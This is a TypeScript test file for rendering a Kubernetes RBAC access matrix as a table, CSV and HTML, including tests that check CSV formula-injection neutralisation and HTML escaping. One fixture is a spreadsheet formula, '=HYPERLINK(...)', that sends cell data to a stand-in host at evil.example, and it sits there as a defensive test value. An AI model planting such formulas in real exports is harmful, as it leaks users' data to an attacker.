/** The matrix renderings: grouped table, RFC 4180 CSV, escaped self-contained HTML. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvField } from '../../../../src/adapters/render/csv.js';
import { renderHtmlMatrix } from '../../../../src/adapters/render/html-matrix.js';
import { renderMatrixCsv } from '../../../../src/adapters/render/matrix-csv.js';
import { renderMatrixTable } from '../../../../src/adapters/render/matrix-table.js';
import type { AccessMatrix } from '../../../../src/domain/rbac/matrix.js';

const matrix: AccessMatrix = {
  verbs: ['get', 'list', 'watch', 'create'],
  resources: [
    { apiGroup: '', resource: 'pods', subresource: '', namespaced: true },
    { apiGroup: 'apps', resource: 'deployments', subresource: 'scale', namespaced: true },
    { apiGroup: '', resource: 'secrets', subresource: '', namespaced: true },
  ],
  namespaces: ['shop'],
  subjects: [
    {
      kind: 'EntraGroup',
      name: 'entra:g1',
      displayName: 'R&D "<Core>", Team',
      entraId: 'g1',
      user: { name: '', groups: ['entra:g1'] },
    },
  ],
  rows: [
    {
      subject: 0,
      scope: '',
      cells: [
        { verbs: ['get', 'list', 'watch'], anyVerb: false, limited: {} },
        { verbs: ['get', 'list', 'watch'], anyVerb: false, limited: {} },
        { verbs: [], anyVerb: false, limited: { get: ['tls', 'db'] } },
      ],
      nonResourceURLs: { get: ['/healthz'] },
    },
    {
      subject: 0,
      scope: 'shop',
      cells: [
        { verbs: ['get', 'list', 'watch', 'create'], anyVerb: true, limited: {} },
        undefined,
        undefined,
      ],
      nonResourceURLs: {},
    },
  ],
};

describe('table', () => {
  it('puts resources with the same verbs on one line', () => {
    const lines = renderMatrixTable(matrix).trimEnd().split('\n');
    assert.match(lines[0] ?? '', /^SUBJECT\s+KIND\s+SCOPE\s+VERBS\s+RESOURCES$/);
    assert.match(
      lines[1] ?? '',
      /^R&D "<Core>", Team\s+EntraGroup\s+cluster-wide\s+get,list,watch\s+pods, deployments\.apps\/scale$/,
    );
    assert.match(lines[2] ?? '', /cluster-wide\s+get\(tls,db\)\s+secrets$/);
    assert.match(lines[3] ?? '', /cluster-wide\s+get\s+\/healthz$/);
    assert.match(lines[4] ?? '', /shop\s+\*\s+pods$/);
  });
});

describe('CSV', () => {
  it('quotes fields with commas and quotes, one record per cell, CRLF line ends', () => {
    const lines = renderMatrixCsv(matrix).split('\r\n');
    assert.equal(
      lines[1],
      '"R&D ""<Core>"", Team",EntraGroup,entra:g1,g1,cluster-wide,pods,get list watch,false,',
    );
    assert.equal(
      lines[3],
      '"R&D ""<Core>"", Team",EntraGroup,entra:g1,g1,cluster-wide,secrets,,false,get:tls|db',
    );
    assert.equal(lines.at(-1), '');
  });
});

describe('CSV formula injection (OWASP CSV Injection)', () => {
  // Names come from RoleBindings, resourceNames and Entra display names: anyone who can
  // name a group or an object can put a formula there.
  const hostile: AccessMatrix = {
    ...matrix,
    subjects: [
      {
        kind: 'EntraGroup',
        name: '+entra:g1',
        displayName: '=HYPERLINK("https://evil.example/?"&A1,"click")',
        entraId: '@g1',
        user: { name: '', groups: ['+entra:g1'] },
      },
    ],
    rows: [
      {
        subject: 0,
        scope: '-shop',
        cells: [undefined, undefined, { verbs: [], anyVerb: false, limited: { get: ['x'] } }],
        nonResourceURLs: { '\tget': ['\r/x'] },
      },
    ],
  };

  it('neutralises every cell that starts with = + - @ tab or CR, in every column', () => {
    const lines = renderMatrixCsv(hostile).split('\r\n');
    assert.equal(
      lines[1],
      `"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",EntraGroup,'+entra:g1,'@g1,'-shop,secrets,,false,get:x`,
    );
    assert.equal(
      lines[2],
      `"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",EntraGroup,'+entra:g1,'@g1,'-shop,"'\r/x",'\tget,false,`,
    );
  });

  it('csvField leaves ordinary values alone and quotes separators', () => {
    assert.equal(csvField('pods'), 'pods');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('-1'), "'-1");
    assert.equal(csvField(''), '');
  });
});

describe('HTML', () => {
  const html = renderHtmlMatrix(matrix, {
    source: 'cluster <x>',
    generatedAt: '2026-01-01T00:00:00.000Z',
    warnings: ['aggregation <pending>'],
  });
  it('escapes every name and loads nothing from outside', () => {
    assert.ok(html.includes('R&#38;D &#34;&#60;Core&#62;&#34;, Team'));
    assert.ok(!html.includes('<Core>'));
    assert.ok(html.includes('aggregation &#60;pending&#62;'));
    assert.doesNotMatch(html, /(src|href)=/);
  });

  it('writes compact, coloured cells with a tooltip', () => {
    assert.match(html, /<td data-col="0" class="read" title="[^"]*pods: get, list, watch">read<\/td>/);
    assert.match(html, /<td data-col="2" class="read" title="[^"]*get only on: tls, db">g\*<\/td>/);
    assert.match(html, /<td data-col="0" class="full" [^>]*>\*<\/td>/);
  });
});
